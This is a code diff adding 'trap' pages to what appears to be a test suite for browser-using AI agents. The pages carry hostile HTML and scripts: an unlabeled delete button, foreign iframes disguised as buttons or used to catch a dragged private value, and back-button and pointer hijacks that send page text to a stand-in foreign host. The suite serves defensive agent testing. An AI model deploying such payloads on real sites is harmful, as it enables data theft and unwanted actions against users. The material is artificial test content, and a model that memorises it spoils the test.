@@ -1,9 +1,12 @@
 /** Pages whose things are not what they are called, or become others under way. */
-import type { World } from "../site.ts";
+import { FOREIGN_FRAME, type World } from "../site.ts";
 import type { Attack } from "./attack.ts";
 import { orderText, PRIVATE, sitePage, type Wanted } from "./order.ts";
 
 const click = (target: string): Wanted[] => [{ action: "click", target }];
+
+const frame = ({ foreign }: World, style: string): string =>
+  `<iframe src="${foreign}${FOREIGN_FRAME}" style="${style}"></iframe>`;
 
 interface Trap {
   /** What the page has beside the order. */
@@ -115,6 +118,24 @@ const TRAPS: Readonly<Record<string, Trap>> = {
       `<form method="post" action="/delete"><label>Show <select name="s" onchange="this.form.submit()"><option>All</option><option>Last month</option></select></label></form>`,
     orders: () => [{ action: "select_option", target: "Show", option: "Last month" }],
   },
+  "a button shows a bin and says nothing": {
+    html: () =>
+      `<style>.icon{display:inline-block;width:20px;height:20px;background:#888}</style><button type="button" onclick="fetch('/delete',{method:'POST'})"><i class="icon icon-trash"></i></button>`,
+    orders: () => click("trash icon"),
+  },
+  "Enter sends the lines of a form": {
+    html: () =>
+      `<form method="post" action="/send"><textarea name="t" aria-label="Your words" onkeydown="if(event.key==='Enter'){event.preventDefault();this.form.requestSubmit()}"></textarea><button>Send</button></form>`,
+    orders: () => [
+      { action: "type", target: "Your words", text: "hello", submit: true },
+      { action: "press_key", target: "Your words", key: "Enter" },
+    ],
+  },
+  "Enter sends lines that are in no form": {
+    html: () =>
+      `<div role="textbox" contenteditable aria-label="Your words" style="min-height:30px" onkeydown="if(event.key==='Enter'){event.preventDefault();fetch('/send',{method:'POST',body:this.textContent})}"></div>`,
+    orders: () => [{ action: "type", target: "Your words", text: "hello", submit: true }],
+  },
   "a link whose address is a script": {
     html: ({ foreign }) => `<a href="javascript:location.href='${foreign}/take'">Details</a>`,
     orders: () => click("Details"),
@@ -137,6 +158,37 @@ const TRAPS: Readonly<Record<string, Trap>> = {
     html: ({ foreign }) =>
       `<img usemap="#m" alt="Map" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" width="100" height="60"><map name="m"><area shape="rect" coords="0,0,100,60" href="${foreign}/take" alt="Shop near you"></map>`,
     orders: () => click("Shop near you"),
+  },
+  "what is pressed holds a foreign frame": {
+    html: (world) =>
+      `<div role="button" tabindex="0" aria-label="Read on" style="width:300px;padding:4px">${frame(world, "width:290px;height:80px")}</div>`,
+    orders: () => click("Read on"),
+  },
+  "a foreign frame that is called a button": {
+    html: ({ foreign }) =>
+      `<iframe src="${foreign}${FOREIGN_FRAME}" role="button" tabindex="0" aria-label="Read on" style="width:300px;height:80px"></iframe>`,
+    orders: () => [
+      ...click("Read on"),
+      { action: "press_key", target: "Read on", key: "Tab" },
+      { action: "hover", target: "Read on" },
+      { action: "drag", target: "Read on", dx: 5 },
+    ],
+  },
+  "words are dragged into a foreign frame": {
+    html: (world) =>
+      `<div style="height:260px"><input aria-label="Number" value="${PRIVATE}" readonly style="position:absolute;left:20px;top:200px;width:120px">${frame(world, "position:absolute;left:200px;top:200px;width:200px;height:100px")}</div>`,
+    orders: () => [
+      { action: "select_text", target: "Number" },
+      { action: "drag", target: "Number", dx: 200, dy: 40 },
+    ],
+  },
+  "words are dropped on what holds a foreign frame": {
+    html: (world) =>
+      `<input aria-label="Number" value="${PRIVATE}" readonly><div role="button" tabindex="0" aria-label="Read on" style="width:300px;padding:4px">${frame(world, "width:290px;height:80px")}</div>`,
+    orders: () => [
+      { action: "select_text", target: "Number" },
+      { action: "drag", target: "Number", onto: "Read on" },
+    ],
   },
   "this machine's own addresses": {
     html: () => "",
@@ -189,6 +241,11 @@ const TRAPS: Readonly<Record<string, Trap>> = {
     html: ({ foreign }) =>
       `<button type="button" id="b">Details</button><script>addEventListener("pointerdown",()=>{const a=document.createElement("a");a.href="${foreign}/take?d="+encodeURIComponent(document.querySelector("h1").textContent);a.click()})</script>`,
     orders: () => click("Details"),
+  },
+  "going back leads away": {
+    html: ({ foreign }) =>
+      `<script>history.pushState(1,"","#on");addEventListener("popstate",()=>{location.href="${foreign}/take?d="+encodeURIComponent(document.querySelector("h1").textContent)})</script>`,
+    orders: () => [{ action: "go_back" }],
   },
   "a page that sends itself away after a while": {
     html: ({ foreign }) =>
